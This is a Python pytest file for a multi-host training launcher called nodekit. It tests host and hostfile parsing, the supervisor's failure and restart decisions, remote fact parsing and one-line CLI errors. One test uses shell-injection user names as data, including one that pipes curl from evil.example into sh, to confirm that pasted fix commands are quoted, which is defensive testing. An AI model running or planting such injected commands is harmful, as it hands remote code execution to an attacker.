"""The fleet's pure parts: hosts and hostfiles, the supervisor's decision table on a fake clock, remote facts."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from nodekit.backends.fleet import remote
from nodekit.backends.fleet.hosts import fleet_hosts, fleet_main, hosts_of, left_out, parse_hostfile
from nodekit.backends.fleet.nodes import job_settings
from nodekit.backends.fleet.supervise import LOST, Budget, Report, decide
from nodekit.config.settings import Settings
from nodekit.errors import UsageError


def test_hosts_are_ranked_by_position_with_user_and_port() -> None:
    hosts = fleet_hosts(["ssh://me@10.0.0.5", "ssh://10.0.0.6:2222", "unix:///var/run/docker.sock"], 3)
    assert [(h.rank, h.user, h.hostname, h.port) for h in hosts] == [
        (0, "me", "10.0.0.5", None),
        (1, None, "10.0.0.6", 2222),
        (2, None, "/var/run/docker.sock", None),
    ]
    assert hosts[0].name == "node 0 (me@10.0.0.5)" and fleet_main(hosts[0], None) == "10.0.0.5"
    assert fleet_main(hosts[0], "192.168.1.5") == "192.168.1.5"
    assert fleet_main(hosts[2], None) == "127.0.0.1"


@pytest.mark.parametrize(
    ("urls", "nnodes", "min_nodes", "says"),
    [
        (["http://10.0.0.5", "ssh://b"], 2, None, "not an ssh://, tcp:// or unix://"),
        (["10.0.0.5"], 1, None, "not an ssh://"),
        (["ssh://a"], 2, None, "1 host(s) for nnodes = 2"),
        (["ssh://me@a", "ssh://you@A"], 2, None, "same machine"),
        (["ssh://a", "ssh://b"], 2, 3, "min_nodes = 3 is more than nnodes = 2"),
        ([], 1, None, "no hosts"),
    ],
)
def test_bad_hosts_are_one_line_usage_errors(urls: list[str], nnodes: int, min_nodes: int | None, says: str) -> None:
    with pytest.raises(UsageError) as e:
        fleet_hosts(urls, nnodes, min_nodes=min_nodes)
    assert says in e.value.message and e.value.exit_code == 2 and "\n" not in e.value.one_line()


def test_the_same_host_on_distinct_ports_is_two_nodes() -> None:
    assert len(fleet_hosts(["ssh://a:22", "ssh://a:2222"], 2)) == 2


@pytest.mark.parametrize(
    ("first", "second"),
    [
        ("ssh://u@10.0.0.1", "ssh://u@10.0.0.1:22"),  # ssh's default port, written or not
        ("ssh://u@node1", "ssh://v@NODE1."),  # case and the final dot of a fully qualified name
        ("ssh://u@10.0.0.1", "ssh://u@10.1"),  # IPv4 shorthand the resolver (inet_aton) accepts
        ("ssh://u@10.0.0.1", "ssh://u@167772161"),  # ... as one number
        ("ssh://u@10.0.0.1", "ssh://u@0x0a000001"),  # ... in hex
        ("ssh://u@10.0.0.1", "ssh://u@[::ffff:10.0.0.1]"),  # IPv4-mapped IPv6
        ("ssh://u@[::1]", "ssh://u@[0:0:0::1]:22"),  # IPv6 written two ways
        ("tcp://h", "tcp://h:2375"),  # Docker's plain-TCP default port
    ],
)
def test_one_machine_under_two_spellings_is_refused(first: str, second: str) -> None:
    with pytest.raises(UsageError, match="same machine and port") as e:
        fleet_hosts([first, second], 2)
    assert first in e.value.message and second in e.value.message


def test_what_the_same_machine_check_cannot_see_is_left_alone() -> None:
    """Offline, two DNS names for one machine are two names; ssh and tcp endpoints are two engines' ports."""
    assert len(fleet_hosts(["ssh://a.example", "ssh://b.example"], 2)) == 2
    assert len(fleet_hosts(["ssh://h", "tcp://h"], 2)) == 2
    assert len(fleet_hosts(["ssh://gpu_node_1", "ssh://gpu_node_2"], 2)) == 2  # ~/.ssh/config aliases


@pytest.mark.parametrize(
    ("url", "says"),
    [
        ("ssh://a b@host", "spaces or control characters"),
        ("ssh://me@ho st", "spaces or control characters"),
        ("ssh://me@ho\tst", "spaces or control characters"),
        ("ssh://me:hunter2@host", "has a password, a path or a query"),
        ("ssh://me@host/path", "has a password, a path or a query"),
        ("ssh://me@host?x=1", "has a password, a path or a query"),
        ("tcp://me@host:2376", "has a password, a path or a query"),
        ("ssh://me@host:0", "bad port"),
        ("ssh://me@host:99999", "bad port"),
        ("ssh://me@ho!st", "neither an IP address nor a host name"),
        ("ssh://me@-host", "neither an IP address nor a host name"),
        ("unix://host/var/run/docker.sock", "not a socket path"),
    ],
)
def test_a_host_that_is_not_a_plain_endpoint_is_one_line(url: str, says: str) -> None:
    with pytest.raises(UsageError, match="host 0") as e:
        fleet_hosts([url, "ssh://other"], 2)
    assert says in e.value.message and e.value.exit_code == 2 and "\n" not in e.value.one_line()


@pytest.mark.parametrize("opt", ["slots=0", "slots=-1", "slots=x", "slots=", "slots=1025", "max_slots=x", "gpus=4"])
def test_a_hostfile_count_that_is_not_1_to_1024_is_refused(opt: str) -> None:
    """slots=0 is refused, not replaced silently by the node's own count."""
    with pytest.raises(UsageError, match="hostfile line 2"):
        parse_hostfile(f"a slots=2\nb {opt}\n")
    assert parse_hostfile("a slots=1024 max_slots=2048\n") == [("ssh://a", 1024)]


def test_more_hosts_than_one_job_can_hold_is_refused_before_parsing_them() -> None:
    with pytest.raises(UsageError, match="more than the 10000 nodes"):
        fleet_hosts([f"ssh://h{i}" for i in range(10_001)], 10_001)


def test_hostfile_deepspeed_style(tmp_path: Path) -> None:
    text = "# comment\nworker-1 slots=4\nworker-2 slots=8  # trailing\n\nssh://me@worker-3\n"
    assert parse_hostfile(text, user="me") == [
        ("ssh://me@worker-1", 4),
        ("ssh://me@worker-2", 8),
        ("ssh://me@worker-3", None),
    ]
    with pytest.raises(UsageError):
        parse_hostfile("a gpus=4\n")
    f = tmp_path / "hostfile"
    f.write_text("a slots=2\nb slots=3\n")
    s = Settings(project_dir=tmp_path, name="d", script="t.py")
    hosts = hosts_of(s, f)
    assert [h.url for h in hosts] == ["ssh://a", "ssh://b"] and [h.slots for h in hosts] == [2, 3]
    job = job_settings(s, hosts, restart=1)
    assert job.nnodes == 2 and job.nodes[1].nproc_per_node == 3
    assert job.env["NODEKIT_RESTART_COUNT"] == "1" and "NODEKIT_JOB_SECRET" not in job.env


def test_nnodes_defaults_to_the_number_of_hosts(tmp_path: Path) -> None:
    s = Settings(project_dir=tmp_path, name="d", script="t.py", hosts=("ssh://a", "ssh://b", "ssh://c"))
    assert len(hosts_of(s)) == 3
    s2 = Settings(project_dir=tmp_path, name="d", script="t.py", hosts=("ssh://a", "ssh://b", "ssh://c"), nnodes=2)
    with pytest.raises(
        UsageError, match=r"hosts lists 3 hosts but nnodes = 2: 1 host\(s\) would be left out \(ssh://c\)"
    ):
        hosts_of(s2)
    assert [h.url for h in hosts_of(s2, stated=True)] == ["ssh://a", "ssh://b"]
    assert left_out(s2, hosts_of(s2, stated=True)) == ["ssh://c"]
    f = tmp_path / "hostfile"
    f.write_text("".join(f"h{i}\n" for i in range(64)))
    with pytest.raises(UsageError, match=r"hostfile .* lists 64 hosts but nnodes = 2: 62 host\(s\) would be left out"):
        hosts_of(s2, f)


# --- the decision table, on a fake clock -------------------------------------------------------------------------

NONE = Budget()


def test_all_finished_is_done_and_running_is_wait() -> None:
    assert decide([Report(0, 0, 1.0), Report(1, 0, 2.0)], 3.0, NONE).action == "done"
    assert decide([Report(0, 0, 1.0), Report(1)], 3.0, NONE).action == "wait"


def test_the_first_failure_stops_the_others_after_the_settle_time() -> None:
    assert decide([Report(0), Report(1, 3, 10.0), Report(2)], 10.1, NONE).action == "wait"
    d = decide([Report(0), Report(1, 3, 10.0), Report(2)], 13.1, NONE)
    assert (d.action, d.culprit, d.code, d.stop, d.also) == ("stop", 1, 3, (0, 2), ())


def test_peers_failing_at_the_same_moment_are_named_with_the_first() -> None:
    reports = [Report(0, 1, 10.4), Report(1, 1, 10.0), Report(2)]
    d = decide(reports, 13.1, NONE)
    assert (d.action, d.culprit, d.also, d.stop) == ("stop", 1, (0,), (2,))
    ended = [Report(0, 1, 10.4), Report(1, 1, 10.0), Report(2, 143, 14.0, stopped=True)]
    d = decide(ended, 14.5, NONE)
    assert (d.action, d.culprit, d.code, d.also) == ("fail", 1, 1, (0,))


def test_a_watchdog_19_waits_for_the_cause_then_blames_it() -> None:
    # Node 0 reported "another node failed" (19) first; node 2, the cause, reports a moment later.
    early = [Report(0, 19, 10.0), Report(1), Report(2)]
    assert decide(early, 11.0, NONE).action == "wait"
    later = [Report(0, 19, 10.0), Report(1), Report(2, 1, 11.5)]
    assert decide(later, 11.6, NONE).action == "wait"
    d = decide(later, 14.6, NONE)
    assert (d.action, d.culprit, d.code, d.stop) == ("stop", 2, 1, (1,))
    # If the cause never reports, the earliest 19 is blamed once the settle time is over.
    d = decide(early, 13.5, NONE)
    assert (d.action, d.culprit, d.code) == ("stop", 0, 19)


def test_nodes_the_head_stopped_are_never_blamed_and_the_end_is_fail_with_the_culprits_code() -> None:
    reports = [Report(0, 143, 12.0, stopped=True), Report(1, 3, 10.0), Report(2, 137, 12.5, stopped=True)]
    d = decide(reports, 13.0, NONE)
    assert (d.action, d.culprit, d.code) == ("fail", 1, 3)
    stopping = [Report(0, stopped=True), Report(1, 3, 10.0)]
    assert decide(stopping, 11.0, NONE).action == "wait"


def test_restarts_while_budget_is_left_then_names_a_host_that_keeps_failing() -> None:
    reports = [Report(0, 143, 12.0, stopped=True), Report(1, 3, 10.0)]
    assert decide(reports, 13.0, Budget(restarts=1, used=0)).action == "restart"
    d = decide(reports, 13.0, Budget(restarts=1, used=1, failures={1: 1}))
    assert d.action == "fail" and "in 2 of 2 attempts" in d.reason


@pytest.mark.parametrize(("code", "what"), [(2, "bad input"), (17, "a stack mismatch"), (20, "the link check"),
                                            (21, "the GPU health check")])  # fmt: skip
def test_a_refusal_the_same_job_would_meet_again_is_never_restarted(code: int, what: str) -> None:
    """Every node of a refused job exits with the refusal (a sick GPU, a slow link, a different stack): a restart on
    the same hosts would be refused again, so the budget is kept and the refusal is the run's end, said so."""
    reports = [Report(0, code, 10.0), Report(1, code, 10.1), Report(2, code, 10.1)]
    d = decide(reports, 14.0, Budget(restarts=3))
    assert (d.action, d.culprit, d.code) == ("fail", 0, code)
    assert d.reason.endswith(f"not restarted: {what} refused, and would refuse the same job again"), d.reason
    # A stalled job (22) and a job's own failure are restarted while restarts are left.
    for other in (22, 1):
        assert decide([Report(0, other, 10.0), Report(1, other, 10.1)], 14.0, Budget(restarts=3)).action == "restart"


def test_a_lost_host_restarts_without_it_only_when_min_nodes_allows() -> None:
    reports = [Report(0, 143, 5.0, stopped=True), Report(1, 143, 5.0, stopped=True), Report(2, lost=True, at=4.0)]
    d = decide(reports, 6.0, Budget(restarts=2, min_nodes=2))
    assert (d.action, d.drop, d.culprit) == ("restart", (2,), 2)
    d = decide(reports, 6.0, Budget(restarts=2))
    assert d.action == "fail" and d.code == 1 and LOST == -1
    assert decide(reports, 6.0, Budget(restarts=2, min_nodes=3)).action == "fail"


def test_a_host_that_vanished_is_blamed_not_the_survivors_that_noticed_it_first() -> None:
    """The survivors' watchdogs exit 19 after peer_timeout; the head's own connection to the vanished host ends a
    few seconds later (its keepalive). The head must not blame the first 19 after the 3 s settle and mark the
    vanished node "stopped", or it could never be named."""
    from nodekit.backends.fleet.alive import alive_interval, loss_window

    cause_s = loss_window(alive_interval(15))
    assert cause_s == 20.0
    survivors = [Report(0, 19, 16.0), Report(1, 19, 16.2), Report(2)]
    assert decide(survivors, 19.5, NONE, cause_s=cause_s).action == "wait"  # the old table blamed node 0 here
    vanished = [Report(0, 19, 16.0), Report(1, 19, 16.2), Report(2, lost=True, at=20.5)]
    d = decide(vanished, 20.6, NONE, cause_s=cause_s)
    assert (d.action, d.culprit, d.reason) == ("fail", 2, "node 2 was lost")
    # A node that never reports at all: the earliest 19 is blamed once the head's own window has passed.
    d = decide(survivors, 16.0 + cause_s + 0.1, NONE, cause_s=cause_s)
    assert (d.action, d.culprit, d.code, d.stop) == ("stop", 0, 19, (2,))


def test_the_heads_keepalive_follows_peer_timeout() -> None:
    from nodekit.backends.fleet.alive import alive_interval, loss_window
    from nodekit.system import ssh

    assert [alive_interval(p) for p in (0, 3, 15, 30, 600)] == [10, 1, 5, 10, 10]
    assert loss_window(5) == 20.0
    text = ssh.alive_wrapper("/usr/bin/ssh", interval=5, count=3, connect_timeout=10)
    assert text == (
        '#!/bin/sh\nexec /usr/bin/ssh -o ServerAliveInterval=5 -o ServerAliveCountMax=3 -o ConnectTimeout=10 "$@"\n'
    )


# --- remote facts and ssh failures, parsed ------------------------------------------------------------------------

FACTS = """gpu=NVIDIA H100 80GB HBM3
gpu=NVIDIA H100 80GB HBM3
ib=/dev/infiniband/uverbs0
limit=Max locked memory         8388608              8388608              bytes
limit=Max stack size            8388608              unlimited            bytes
memlock_kb=64
stack_kb=unlimited
host=gpu-7
listen=00000000:7530
listen=0100007F:0016
"""


def test_facts_parse_with_the_engines_limits_first() -> None:
    g = remote.parse_facts(FACTS)
    assert g.facts.gpu_count == 2 and g.facts.infiniband == ("/dev/infiniband/uverbs0",)
    assert g.facts.memlock_hard == 8388608 and g.facts.stack_hard is None
    assert g.hostname == "gpu-7" and g.listening == {0x7530, 22}
    assert remote.parse_facts(FACTS, gpus=0).facts.gpu_count == 0
    bare = remote.parse_facts("memlock_kb=64\nstack_kb=unlimited\n")
    assert bare.facts.memlock_hard == 64 * 1024 and bare.facts.stack_hard is None


def test_mount_sources_missing_on_a_host_are_reported_by_that_host(tmp_path: Path) -> None:
    """The facts script as a host's shell runs it: a node's mount sources are checked there, not on the head."""
    here = tmp_path / "data set's"
    here.mkdir()
    gone = tmp_path / "not here" / "it's"
    proc = subprocess.run(["sh", "-c", remote.facts_script([str(here), str(gone)])], capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr
    assert remote.parse_facts(proc.stdout).absent == {str(gone)}


def test_a_local_host_missing_a_mount_source_fails_its_check_naming_it(tmp_path: Path) -> None:
    (h,) = fleet_hosts(["unix:///nonexistent/docker.sock"], 1)
    got = remote.gather(h, 0, [str(tmp_path), str(tmp_path / "absent")])
    assert isinstance(got, remote.Gathered) and got.absent == {str(tmp_path / "absent")}


def test_ssh_failures_are_named_with_their_fix() -> None:
    (h,) = fleet_hosts(["ssh://me@10.0.0.5:2222"], 1)
    assert remote.ssh_argv(h, "true")[-4:] == ["me", "--", "10.0.0.5", "true"]
    assert "-p" in remote.ssh_argv(h, "true") and "BatchMode=yes" in remote.ssh_argv(h, "true")
    denied = remote.ssh_problem(h, "me@10.0.0.5: Permission denied (publickey).\n")
    assert "Permission denied" in denied.what and denied.fix.startswith("ssh-copy-id me@10.0.0.5")
    assert "known_hosts" in remote.ssh_problem(h, "Host key verification failed.\n").fix
    assert "is up" in remote.ssh_problem(h, "ssh: connect to host 10.0.0.5 port 2222: No route to host").fix


@pytest.mark.parametrize("user", ["$(curl${IFS}-s${IFS}evil.example|sh)", "a;b", "`id`", "x'y"])
def test_every_fix_line_quotes_the_host_it_tells_the_user_to_paste(user: str) -> None:
    """Review 2026-12 N15, in depth: parse_host refuses such a user name, but a Fix line is pasted into a shell, so
    the target in it is shell-quoted whatever reaches it (a FleetHost made by hand here)."""
    import shlex

    from nodekit.backends.fleet.hosts import FleetHost
    from nodekit.backends.fleet.manage import _reach

    h = FleetHost(rank=0, url="ssh://x@10.0.0.5", scheme="ssh", hostname="10.0.0.5", user=user)
    quoted = shlex.quote(f"{user}@10.0.0.5")
    fixes = [remote.ssh_problem(h, said).fix for said in ("Permission denied", "Host key verification failed", "x")]
    for fix in [*fixes, _reach(h)]:
        assert quoted in fix and f"{user}@10.0.0.5" in shlex.split(fix), fix


# --- the command line: bad hosts are refused before anything is contacted -------------------------------------------


@pytest.mark.parametrize(
    ("hosts", "extra", "needle"),
    [
        ('["http://a", "ssh://b"]', "", "not an ssh://, tcp:// or unix://"),
        ('["ssh://a"]', "nnodes = 2\n", "1 host(s) for nnodes = 2"),
        ('["ssh://me@a", "ssh://a"]', "", "same machine"),
        ('["ssh://a", "ssh://b"]', "min_nodes = 3\n", "min_nodes = 3 is more than nnodes = 2"),
    ],
)
def test_nodekit_run_refuses_bad_hosts_in_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, hosts: str, extra: str, needle: str
) -> None:
    from typer.testing import CliRunner

    from nodekit.cli.app import app

    for var in ("NODEKIT_NNODES", "NODEKIT_CONFIG", "NODEKIT_HOSTS"):
        monkeypatch.delenv(var, raising=False)
    (tmp_path / "nodekit.toml").write_text(f'name = "t"\nscript = "train.py"\nhosts = {hosts}\n{extra}')
    (tmp_path / "train.py").write_text("")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("PATH", str(tmp_path))  # no ssh, no docker here: nothing may be contacted
    for argv in (["run"], ["status"], ["down"]):
        result = CliRunner().invoke(app, argv)
        lines = [ln for ln in result.stderr.splitlines() if ln.strip()]
        assert result.exit_code == 2 and len(lines) == 1 and needle in lines[0], result.stderr
    assert not (tmp_path / "compose").exists()


def _fleet_project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, *, script: bool = True) -> None:
    for var in ("NODEKIT_NNODES", "NODEKIT_CONFIG", "NODEKIT_HOSTS"):
        monkeypatch.delenv(var, raising=False)
    (tmp_path / "nodekit.toml").write_text('name = "t"\nscript = "train.py"\nhosts = ["ssh://a", "ssh://b"]\n')
    if script:
        (tmp_path / "train.py").write_text("")
    monkeypatch.chdir(tmp_path)


def test_nodekit_run_refuses_a_missing_script_before_any_host_is_checked_or_shipped_to(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The script is checked first, not when the compose files are planned (after every host is checked and the
    image shipped to every one of them)."""
    from typer.testing import CliRunner

    from nodekit.backends.fleet import run
    from nodekit.cli.app import app
    from nodekit.image import builder as build
    from nodekit.system import docker

    _fleet_project(tmp_path, monkeypatch, script=False)
    touched: list[str] = []
    monkeypatch.setattr(build, "current_image", lambda s: touched.append("image") or "nodekit/t:1")
    monkeypatch.setattr(docker, "require_image", lambda *a, **k: touched.append("engine"))
    monkeypatch.setattr(remote, "check_all", lambda *a, **k: touched.append("checked") or [])
    monkeypatch.setattr(run, "ship_image", lambda *a, **k: touched.append("shipped"))
    result = CliRunner().invoke(app, ["run"])
    lines = [ln for ln in result.stderr.splitlines() if ln.strip()]
    assert result.exit_code == 2 and len(lines) == 1 and "training script train.py not found" in lines[0], lines
    assert touched == [] and not (tmp_path / "compose").exists()


def test_fleet_down_and_logs_name_each_host_they_could_not_reach_and_exit_1(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Not a failure among the "down" lines and exit 0 for `down` (a container may still run there), nor a
    thread's traceback and exit 0 for `logs`."""
    from typer.testing import CliRunner

    from nodekit.cli.app import app
    from nodekit.errors import EngineError
    from nodekit.system import docker

    _fleet_project(tmp_path, monkeypatch)

    def down(file: object, project: str, *, timeout: int, host: str) -> None:
        if host == "ssh://b":
            raise EngineError("docker compose down of nodekit-t-node1 on ssh://b failed: connection refused")

    def logs(file: object, project: str, *, follow: bool, tail: str | None, host: str) -> object:
        if host == "ssh://b":
            raise EngineError(f"lost the log stream of {project} on ssh://b: connection refused")
        return iter(["step 1"])

    monkeypatch.setattr(docker, "compose_down", down)
    monkeypatch.setattr(docker, "compose_logs", logs)
    result = CliRunner().invoke(app, ["down"])
    assert result.exit_code == 1, result.output
    assert result.stdout.splitlines() == ["node 0 (a): down"]
    errors = [ln for ln in result.stderr.splitlines() if ln.strip()]
    assert len(errors) == 1 and errors[0].startswith("nodekit: error: down: node 1 (b): docker compose down"), errors
    assert "Fix: nodekit down --node 1 once ssh b true answers; its container may still run there" in errors[0]
    result = CliRunner().invoke(app, ["logs"])
    assert result.exit_code == 1 and "Traceback" not in result.output, result.output
    assert result.stdout.splitlines() == ["[node 0] step 1"]
    errors = [ln for ln in result.stderr.splitlines() if ln.strip()]
    assert len(errors) == 1 and errors[0].startswith("nodekit: error: logs: node 1 (b): lost the log stream"), errors
    assert "Fix: check that b is up (ssh b true), then nodekit logs --node 1" in errors[0]


def test_node_overrides_are_checked_against_the_hosts_when_nnodes_is_not_set(tmp_path: Path) -> None:
    """The README's head-node example: three hosts, `[nodes.2] gpus = 4`, no nnodes. The hosts count the nodes;
    with a hostfile the count is known only when it is read, and an override past it is one line."""
    from pydantic import ValidationError

    from nodekit.config.settings import NodeOverride

    three = ("ssh://a", "ssh://b", "ssh://c")
    s = Settings(project_dir=tmp_path, name="d", script="t.py", hosts=three, nodes={2: NodeOverride(gpus=4)})
    assert len(hosts_of(s)) == 3
    f = tmp_path / "hostfile"
    f.write_text("a\nb\n")
    bare = Settings(project_dir=tmp_path, name="d", script="t.py", nodes={2: NodeOverride(gpus=4)})
    with pytest.raises(UsageError, match=r"\[nodes.2\] is outside node ranks 0..1 \(nnodes = 2\)"):
        hosts_of(bare, f)
    with pytest.raises(ValidationError, match=r"\[nodes.3\] is outside node ranks 0..2"):
        Settings(project_dir=tmp_path, name="d", script="t.py", hosts=three, nodes={3: NodeOverride(gpus=4)})
